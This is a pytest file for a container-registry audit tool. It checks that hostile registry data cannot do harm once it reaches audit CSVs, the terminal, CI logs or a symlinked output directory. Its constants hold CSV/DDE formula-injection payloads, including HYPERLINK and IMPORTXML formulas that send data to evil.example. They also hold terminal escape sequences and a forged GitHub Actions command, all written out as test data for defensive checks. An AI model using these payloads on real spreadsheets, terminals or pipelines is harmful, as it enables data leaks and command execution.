"""Hostile registry data in what people open and read: audit CSVs, the terminal, and planted links in --out.

A real registry stores any config JSON, platform and layer media type it is given, so those are pushed
as they are. It never lists tag or repository names outside the distribution grammar, nor answers
with escape sequences in its error messages: those come from fault-proxy rules that rewrite its answers.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import json
import os
from pathlib import Path

import pandas as pd
import pytest

import regframe
from regframe.cli import main
from regframe.inventory.inventory import neutralize_formulas
from regframe.testing import build_image, build_index, layer, local_registry, push_image
from regframe.testing.faultproxy import Action, FaultProxy, Rule

FORMULA_OS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_ARCH = "+cmd|' /C calc'!A0"
FORMULA_VARIANT = "@SUM(1+1)*cmd|' /C calc'!A0"
LABELS = {
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quote": "'=kept as typed",
    "plain": "fine",
}
LAYER_TYPE = '=IMPORTXML("http://evil.example/","//a")'
CHILD_OS, CHILD_ARCH = "=1+1", "@arch"
BAD_REPOSITORY = '@SUM(1+1)*cmd|" /C calc"!A0'
BAD_TAG = '=HYPERLINK("http://evil.example/","tag")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPES = ("\x1b]52;c;ZXZpbA==\x07", "\x1b[2J", "\x9b31m", "\x7f", "\x1b]0;owned\x1b\\")
REPO = "hostile/app"

FORMULA_IMAGE = build_image(
    [layer("hostile-base", 700)], os=FORMULA_OS, architecture=FORMULA_ARCH, variant=FORMULA_VARIANT, labels=LABELS
)
MULTI = build_index(
    [build_image([layer("hostile-child", 800)], os=CHILD_OS, architecture=CHILD_ARCH, oci=True)], oci=True
)


def with_manifest(image, edit) -> object:
    """The image with its manifest JSON changed by ``edit`` (raw non-ASCII kept as UTF-8 bytes)."""
    document = json.loads(image.manifest_raw)
    edit(document)
    raw = json.dumps(document, indent=3, ensure_ascii=False).encode()
    return dataclasses.replace(image, manifest_raw=raw, digest="sha256:" + hashlib.sha256(raw).hexdigest())


def odd_layer(document: dict) -> None:
    document["layers"][0]["mediaType"] = LAYER_TYPE


def c1_annotation(document: dict) -> None:
    document["annotations"] = {"note": "\x9b2J\x9d0;owned\x9c\x7f"}


ODD_LAYER_IMAGE = with_manifest(build_image([layer("hostile-odd", 650)]), odd_layer)
C1_IMAGE = with_manifest(build_image([layer("hostile-c1", 600)]), c1_annotation)


class AddToList(Action):
    """Forward a catalog or tag-list answer with hostile names added to its list."""

    def __init__(self, key: str, names: list[str]):
        self.key, self.names = key, names

    def apply(self, ex) -> None:
        response = ex.forward()
        body = json.loads(response.read())
        body[self.key] = list(body.get(self.key) or []) + self.names
        data = json.dumps(body).encode()
        response.body = (data,)
        response.set("Content-Length", str(len(data)))
        ex.respond(response)


class HostileError(Action):
    """An OCI error whose message carries terminal escape sequences."""

    def apply(self, ex) -> None:
        ex.error(403, "DENIED", "access denied" + "".join(ESCAPES))


@pytest.fixture(scope="module")
def upstream():
    with local_registry() as reg, regframe.connect(reg.url, docker_config=False) as client:
        push_image(client, REPO, "formula", FORMULA_IMAGE)
        push_image(client, REPO, "multi", MULTI)
        push_image(client, REPO, "odd-layer", ODD_LAYER_IMAGE)
        push_image(client, REPO, "c1", C1_IMAGE)
        yield reg


@pytest.fixture
def proxy(upstream):
    with FaultProxy(upstream.url) as fault_proxy:
        yield fault_proxy


def hostile_names(proxy: FaultProxy) -> None:
    proxy.add_rule(Rule(path=r"^/v2/_catalog", action=AddToList("repositories", [BAD_REPOSITORY])))
    proxy.add_rule(Rule(path=f"^/v2/{REPO}/tags/list", action=AddToList("tags", [BAD_TAG, *ESCAPES])))


def cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def column(path: Path, name: str) -> list[str]:
    rows = cells(path)
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


# -- formula injection (CSV) ------------------------------------------------------------------------


def test_audit_csvs_neutralise_formulas_from_the_registry(proxy, tmp_path, capsys):
    hostile_names(proxy)
    out = tmp_path / "report"
    assert main(["audit", proxy.url, "--out", str(out), "--older-than", "1d", "--no-progress"]) == 1
    capsys.readouterr()
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} >= {
        "catalog.csv",
        "tags.csv",
        "manifests.csv",
        "layers.csv",
        "errors.csv",
        "storage_usage.csv",
        "shared_layers.csv",
        "stale_tags.csv",
        "cleanup_plan.csv",
    }
    for path in written:
        for row in cells(path)[1:]:
            for cell in row:
                assert not cell.startswith(TRIGGERS), f"{path.name}: {cell!r} would run as a formula"
    manifests = out / "manifests.csv"
    assert "'" + FORMULA_OS in column(manifests, "os")
    assert "'" + FORMULA_ARCH in column(manifests, "architecture")
    assert "'" + FORMULA_VARIANT in column(manifests, "variant")
    assert {"'" + CHILD_OS, "'" + CHILD_ARCH} <= set(column(manifests, "os") + column(manifests, "architecture"))
    assert "'" + LAYER_TYPE in column(out / "layers.csv", "media_type")
    errors = out / "errors.csv"
    assert "'" + BAD_REPOSITORY in column(errors, "repository")
    assert "'" + BAD_TAG in column(errors, "tag")


def test_only_text_cells_are_quoted_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "count": pd.array([-5, 3], dtype="Int64"),
            "ratio": [-1.5, 2.0],
            "flag": [True, False],
            "text": ["-5", "'quoted"],
            "name": pd.Categorical(["@x", "ok"]),
        }
    )
    safe = neutralize_formulas(frame)
    assert safe["count"].tolist() == [-5, 3] and safe["ratio"].tolist() == [-1.5, 2.0]
    assert safe["flag"].tolist() == [True, False]
    assert safe["text"].tolist() == ["'-5", "''quoted"]
    assert safe["name"].tolist() == ["'@x", "ok"]
    assert safe.to_csv(index=False).splitlines()[1].startswith("-5,-1.5,True,'-5,")


def test_audit_report_loads_back_exactly_and_to_csv_keeps_values(proxy, tmp_path, capsys):
    hostile_names(proxy)
    out = tmp_path / "report"
    main(["audit", proxy.url, "--out", str(out), "--older-than", "1d", "--no-progress"])
    capsys.readouterr()
    loaded = regframe.Inventory.load(out)
    row = loaded.manifests[loaded.manifests["tag"] == "formula"].iloc[0]
    assert (row["os"], row["architecture"], row["variant"]) == (FORMULA_OS, FORMULA_ARCH, FORMULA_VARIANT)
    assert row["labels"] == LABELS
    assert LAYER_TYPE in set(loaded.layers["media_type"].astype(str))
    assert {BAD_REPOSITORY, BAD_TAG} <= (
        set(loaded.errors["repository"].astype(str)) | set(loaded.errors["tag"].dropna().astype(str))
    )
    with regframe.connect(proxy.url, docker_config=False) as reg:
        inv = reg.inventory([REPO], progress=False)
    inv.to_csv(tmp_path / "data")
    raw = pd.read_csv(tmp_path / "data" / "manifests.csv", dtype=str, keep_default_na=False)
    assert FORMULA_OS in set(raw["os"]), "to_csv writes values as they are, for programs"


# -- terminal escapes -------------------------------------------------------------------------------


def assert_no_controls(text: str) -> None:
    bad = [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, f"raw control characters reach the terminal: {bad!r}"


def test_tags_escape_control_characters(proxy, capsys):
    hostile_names(proxy)
    main(["tags", proxy.url, REPO])
    out = capsys.readouterr().out
    assert_no_controls(out)
    lines = out.splitlines()
    assert "\\x1b]52;c;ZXZpbA==\\x07" in lines
    assert {"\\x1b[2J", "\\x9b31m", "\\x7f", "\\x1b]0;owned\\x1b\\"} <= set(lines)
    assert {"formula", "multi", "c1"} <= set(lines)


def test_error_messages_escape_control_characters(proxy, capsys):
    proxy.add_rule(Rule(path=r"/manifests/", action=HostileError()))
    assert main(["manifest", proxy.url, REPO, "formula"]) == 2
    captured = capsys.readouterr()
    assert_no_controls(captured.err + captured.out)
    assert "access denied\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J\\x9b31m" in captured.err


FORGED = ("::error title=forged::from the registry", "Dry run: nothing to delete.")


class ForgedLines(Action):
    """An OCI error whose message holds line breaks and whole lines regframe could have printed itself."""

    def apply(self, ex) -> None:
        ex.error(403, "DENIED", "access denied\n" + "\r\n".join(FORGED) + "\r")


def test_registry_text_cannot_start_a_line_of_its_own(proxy, tmp_path, capsys):
    """A CI log reads each line on its own: a registry's newline must not start one, or it forges a verdict
    or a GitHub Actions workflow command. Its message stays on the line of the error it belongs to."""
    proxy.add_rule(Rule(path=f"^/v2/{REPO}/manifests/c1$", action=ForgedLines()))
    escaped = "access denied\\x0a::error title=forged::from the registry\\x0d\\x0aDry run: nothing to delete.\\x0d"
    assert main(["manifest", proxy.url, REPO, "c1"]) == 2
    err = capsys.readouterr().err
    [line] = err.splitlines()
    assert line.startswith("regframe: error: ") and line.endswith(escaped)

    policy = tmp_path / "policy.toml"
    policy.write_text('[[rules]]\nname = "month"\nkeep_newer_than = "30d"\n')
    assert main(["cleanup", proxy.url, "--policy", str(policy), "--repositories", REPO]) == 1
    out = capsys.readouterr().out
    assert not [line for line in out.splitlines() if line.startswith(FORGED)]
    [error] = [line for line in out.splitlines() if "access denied" in line]
    assert error.startswith(f"  {REPO}:c1 (manifest): ") and error.endswith(escaped)
    assert out.splitlines()[-1].startswith("Dry run: nothing deleted.")


def test_manifest_output_escapes_c1_controls(proxy, capsys):
    assert main(["manifest", proxy.url, REPO, "c1"]) == 0
    out = capsys.readouterr().out
    assert_no_controls(out)
    assert "\\x9b2J\\x9d0;owned\\x9c\\x7f" in out


# -- planted links in --out -------------------------------------------------------------------------


def plant(out: Path, names: list[str], victim: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    for name in names:
        os.symlink(victim, out / name)


def test_audit_replaces_planted_links_and_leaves_their_targets_alone(proxy, tmp_path, capsys):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "report"
    outputs = ["summary.txt", "tags.csv", "manifests.csv", "storage_usage.csv", "cleanup_plan.csv", "inventory.json"]
    predictable = [".tags.csv.part", ".manifests.csv.part", ".inventory.json.part", ".summary.txt.part"]
    plant(out, outputs + predictable, victim)
    assert main(["audit", proxy.url, "--out", str(out), "--older-than", "1d", "--no-progress"]) == 0
    capsys.readouterr()
    assert victim.read_text() == "precious\n"
    for name in outputs:
        assert (out / name).is_file() and not (out / name).is_symlink(), name
    assert "regframe audit of" in (out / "summary.txt").read_text()
    assert len(pd.read_csv(out / "tags.csv")) == 4


def test_inventory_exports_replace_planted_links(proxy, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    with regframe.connect(proxy.url, docker_config=False) as reg:
        inv = reg.inventory([REPO], progress=False)
    for writer, suffix in (("to_csv", "csv"), ("to_parquet", "parquet")):
        out = tmp_path / writer
        names = [f"{name}.{suffix}" for name in ("tags", "layers")] + ["inventory.json"]
        plant(out, names + [f".{name}.part" for name in names], victim)
        getattr(inv, writer)(out)
        assert victim.read_text() == "precious\n"
        for name in names:
            assert (out / name).is_file() and not (out / name).is_symlink(), name
        assert len(regframe.Inventory.load(out).tags) == 4
